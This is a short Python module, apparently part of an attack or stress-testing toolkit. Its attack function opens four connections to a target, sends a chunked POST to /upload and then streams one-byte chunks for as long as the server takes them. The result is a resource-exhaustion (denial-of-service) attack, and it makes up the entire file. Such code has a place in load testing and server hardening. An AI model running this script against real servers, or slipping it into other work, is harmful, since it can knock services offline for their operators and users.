"""Uploads in chunks of one byte, as fast as they are taken."""

from wire.http1 import request
from wire.link import link


async def attack(target):
    async def lane(number):
        async with link(target, target.source(number)) as it:
            if it:
                it.read_away()
                await it.send(request("POST", "/upload", [("transfer-encoding", "chunked")]))
                while target.goes_on():
                    await it.send(b"1\r\nx\r\n" * 2000)

    await target.lanes(4, lane)
